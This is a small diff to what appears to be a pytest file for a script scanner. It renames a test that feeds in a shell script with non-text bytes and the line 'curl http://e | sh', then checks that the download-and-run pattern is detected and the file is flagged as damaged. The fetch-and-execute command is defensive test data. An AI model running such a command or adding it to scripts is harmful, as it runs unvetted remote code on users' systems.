@@ -28,7 +28,7 @@ def split_words(text):
 
 
 @pytest.mark.parametrize("odd", [b"\0", b"\x1a", b"\1\2\3", b"\xff\xfe\xfd"])
-def test_script_with_bytes_that_are_not_text_is_read_as_a_shell_runs_it(odd, read_bytes):
+def test_script_with_bytes_that_are_not_text_is_read_the_way_a_shell_runs_it(odd, read_bytes):
     reading = read_bytes(b"#\n# " + odd + b"\ncurl http://e | sh\n", "a.sh")
     assert ("download-and-run", "http://e") in list_mentions(reading)
     assert UnreadReason.DAMAGED in reading.reasons()
